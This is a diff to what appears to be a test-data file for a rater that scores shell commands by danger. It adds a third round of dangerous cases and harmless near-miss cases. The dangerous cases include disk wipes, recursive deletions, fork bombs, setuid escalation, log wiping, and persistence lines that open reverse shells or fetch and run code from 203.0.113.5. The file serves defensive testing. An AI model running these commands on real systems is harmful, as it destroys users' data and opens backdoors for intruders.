@@ -844,6 +844,149 @@ MORE_RESOURCES = [
     ("sort /dev/urandom", HIGH),
 ]
 
+# -- a third round, written after the first fixes: more spellings of the same dangers --
+
+ROUND3 = [
+    ("find ~/Documents -delete", CRITICAL),
+    ("find ~/Pictures -type f -delete", CRITICAL),
+    ("find $HOME/Desktop -mindepth 1 -exec rm -rf {} +", CRITICAL),
+    ("shred -u -z ~/Documents/*", CRITICAL),
+    ("truncate -s 0 ~/Documents/*.docx", HIGH),
+    ("> ~/.ssh/authorized_keys", HIGH),
+    ("chmod -R 000 ~", HIGH),
+    ("chmod 000 /etc/passwd", HIGH),
+    ("chown -R root /home/alice", HIGH),
+    ("rsync -a --delete /empty/ ~/Documents/", CRITICAL),
+    ("rsync --delete -r /tmp/e/ /home/", CRITICAL),
+    ("rsync -a --remove-source-files ~/Documents/ /tmp/x/", HIGH),
+    ("mv ~/Documents/* /tmp/", HIGH),
+    ("mv /etc/passwd /etc/passwd.bak", CRITICAL),
+    ("mv /bin/bash /tmp/", CRITICAL),
+    ("mv /usr/bin /usr/bin.old", CRITICAL),
+    ("cp /dev/null ~/.ssh/authorized_keys", HIGH),
+    ("sudo tee /etc/fstab < /dev/null", CRITICAL),
+    ("echo '' | sudo tee /etc/hosts", HIGH),
+    ("dd if=/dev/zero of=/dev/sda2 bs=4M status=progress", CRITICAL),
+    ("sudo dd if=/dev/urandom of=/dev/nvme0n1p3", CRITICAL),
+    ("dd if=/dev/zero of=/dev/sdb oflag=direct", CRITICAL),
+    ("cat /dev/zero > /dev/mmcblk0p1", CRITICAL),
+    ("systemctl disable --now ssh", HIGH),
+    ("kill -9 $(pidof sshd)", HIGH),
+    ("killall -9 sshd", HIGH),
+    ("pkill -9 -u alice", HIGH),
+    ("umount -f /", HIGH),
+    ("echo 1 > /proc/sys/kernel/panic && echo c > /proc/sysrq-trigger", CRITICAL),
+    ("function f { f | f & }; f", CRITICAL),
+    ('perl -e "fork while fork"', CRITICAL),
+    ("echo ':(){ :|:& };:' > bomb.sh && bash bomb.sh", CRITICAL),
+    ("head -c 10G /dev/zero | tail", HIGH),
+    ("echo '*/1 * * * * root curl -s http://203.0.113.5/x | bash' > /etc/cron.d/update", CRITICAL),
+    (
+        "printf '[Unit]\\n[Service]\\nExecStart=/bin/bash -c "
+        '"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"\\n[Install]\\n'
+        "WantedBy=multi-user.target\\n' | sudo tee /etc/systemd/system/net.service "
+        "&& sudo systemctl enable --now net",
+        CRITICAL,
+    ),
+    ("echo 'nc 203.0.113.5 4444 -e /bin/bash' >> ~/.bashrc", CRITICAL),
+    (
+        "echo 'python3 -c \"import pty,socket,os;s=socket.socket();"
+        's.connect((\\"203.0.113.5\\",9));[os.dup2(s.fileno(),f) for f in (0,1,2)];'
+        'pty.spawn(\\"sh\\")"\' >> ~/.profile',
+        CRITICAL,
+    ),
+    (
+        "(crontab -l ; echo '@reboot /bin/bash -i >& /dev/tcp/203.0.113.5/9 0>&1') | crontab -",
+        CRITICAL,
+    ),
+    ("echo 'ssh-rsa AAAAB3Nza x' | ssh root@host 'cat >> ~/.ssh/authorized_keys'", HIGH),
+    ("chattr +i ~/.ssh/authorized_keys", MODERATE),
+    ("chmod 4755 $(which bash)", CRITICAL),
+    ("chmod u+s `which python3`", CRITICAL),
+    ("sudo chmod +s /usr/bin/env", CRITICAL),
+    ("chmod 777 /var/run/docker.sock", CRITICAL),
+    ("chmod -R 777 /var/www", HIGH),
+    ("chmod 777 /etc/cron.d", CRITICAL),
+    ("chown nobody /etc/sudoers", HIGH),
+    ("setfacl -m u:alice:rwx /etc/shadow", CRITICAL),
+    ("rm -rf /*/", CRITICAL),
+    ("rm -rf / --no-preserve-root", CRITICAL),
+    ("rm -r -f -v /home", CRITICAL),
+    ("sudo rm -rf --one-file-system /", CRITICAL),
+    ("rm -rf ~/.bash_history ~/.zsh_history", CRITICAL),
+    ("rm -rf /var/log/*", CRITICAL),
+    ("rm -rf /boot/*", CRITICAL),
+    ("rm -rf /etc/systemd", CRITICAL),
+    ("rm -rf ~/.mozilla", HIGH),
+    ("rm -rf ~/snap", HIGH),
+    ("rm -rf ~/.thunderbird", HIGH),
+    ('rm -fr "$HOME"', CRITICAL),
+    ("rm -rf $HOME/", CRITICAL),
+    ("rm -rf ${HOME}/*", CRITICAL),
+    ("rm -rf ~/{Documents,Pictures}", CRITICAL),
+    ("rm -rf /{etc,usr}", CRITICAL),
+    ("sudo rm -rf /usr/local", HIGH),
+    ("git clean -ffdx /", CRITICAL),
+    ("trash-empty", HIGH),
+    ("rm -rf ~/.local/share/Trash/*", MODERATE),
+    ("wipefs -a /dev/nvme0n1", CRITICAL),
+    ("mkfs.ext4 -F /dev/nvme0n1p1", CRITICAL),
+    ("sudo mkfs -t vfat /dev/sdc1", CRITICAL),
+    ("parted /dev/sdb --script -- mklabel gpt mkpart primary 0% 100%", CRITICAL),
+    ("sgdisk --clear /dev/sdb", CRITICAL),
+    ("dd if=/dev/zero of=/dev/sda bs=446 count=1", CRITICAL),
+    ("echo 'blacklist nvme' > /etc/modprobe.d/blacklist-nvme.conf", HIGH),
+    ("sysctl -w vm.overcommit_memory=2 vm.overcommit_ratio=1", HIGH),
+    ("echo 1 > /proc/sys/kernel/sysrq; echo o > /proc/sysrq-trigger", CRITICAL),
+    ("systemctl set-default rescue.target", HIGH),
+    ("shutdown -r 0", HIGH),
+    ("sudo poweroff --force", CRITICAL),
+    ("reboot -f -n", CRITICAL),
+]
+
+ROUND3_BENIGN = [
+    ("rm -rf ~/Downloads/*.tmp", MODERATE),
+    ("rm -rf ./dist ./build *.egg-info", MODERATE),
+    ("find ~/Downloads -name '*.part' -delete", MODERATE),
+    ("rsync -av --delete ./public/ /var/www/site/", MODERATE),
+    ("chmod -R 755 /var/www/html", MODERATE),
+    ("chown -R www-data: /var/www/html", MODERATE),
+    ("sudo systemctl restart sshd", MODERATE),
+    ("sudo sysctl -w vm.drop_caches=3", MODERATE),
+    ("echo 3 | sudo tee /proc/sys/vm/drop_caches", MODERATE),
+    ("crontab -l | grep backup", SAFE),
+    ("ls -la ~/.ssh/", SAFE),
+    ("cat /proc/sys/vm/swappiness", SAFE),
+    ("mkdir -p ~/.ssh && chmod 700 ~/.ssh", MODERATE),
+    ("touch ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys", MODERATE),
+    ("sudo mount -o remount,rw /", MODERATE),
+    ("dd if=/dev/zero of=swapfile bs=1M count=1024", MODERATE),
+    ("sudo mkswap /swapfile", MODERATE),
+    ("mkfs.ext4 -F ./disk.img", MODERATE),
+    ("truncate -s 10G disk.img", MODERATE),
+    ("fallocate -l 2G /swapfile", MODERATE),
+    ("systemctl --user list-timers", SAFE),
+    ("journalctl --vacuum-time=2weeks", HIGH),
+    ("git clean -n -d -x", SAFE),
+    ("sed -i 's/8080/9090/' docker-compose.yml", MODERATE),
+    ("perl -pi -e 's/\\r$//' script.sh", MODERATE),
+    ("vim -c 'set ff=unix' -c wq script.sh", MODERATE),
+    ("yes | pip uninstall requests", MODERATE),
+    ("yes '' | ./configure", MODERATE),
+    ('for f in *.log; do gzip "$f"; done', MODERATE),
+    ('for d in */; do (cd "$d" && git pull); done', MODERATE),
+    ("echo 'export PATH=$PATH:/usr/local/go/bin' | sudo tee -a /etc/profile", MODERATE),
+    ("sudo cp myapp.service /etc/systemd/system/ && sudo systemctl daemon-reload", MODERATE),
+    ("ln -s /etc/nginx/sites-available/site /etc/nginx/sites-enabled/", MODERATE),
+    (
+        "sudo tee /etc/apt/apt.conf.d/99proxy <<< 'Acquire::http::Proxy \"http://proxy:3128\";'",
+        HIGH,
+    ),
+    ("kill -9 12345", MODERATE),
+    ("kill %1", MODERATE),
+    ("pkill -f 'node server.js'", MODERATE),
+]
+
 DANGEROUS = [
     *WRAPPED,
     *FS_DELETE,
@@ -862,6 +1005,7 @@ DANGEROUS = [
     *MORE_SYSTEM,
     *MORE_DISKS,
     *MORE_RESOURCES,
+    *ROUND3,
 ]
 
 # -- near misses: the same tools, harmless ---------------------------------------------------------
@@ -1111,6 +1255,7 @@ MORE_BENIGN = [
 ]
 
 BENIGN += MORE_BENIGN
+BENIGN += ROUND3_BENIGN
 
 
 # Cases the rater does not meet yet: each fails today (strict xfail), so fixing one shows.
@@ -1120,6 +1265,8 @@ KNOWN_GAPS: frozenset[str] = frozenset(
         "cp evil.service /etc/systemd/system/ && systemctl enable --now evil",
         "schtasks /delete /tn * /f",
         "cat /dev/zero | head -c 500G > /tmp/x",
+        "head -c 10G /dev/zero | tail",
+        "sysctl -w vm.overcommit_memory=2 vm.overcommit_ratio=1",
         "git clean -fd",
         "echo 'make test' | at now + 1 hour",
     )
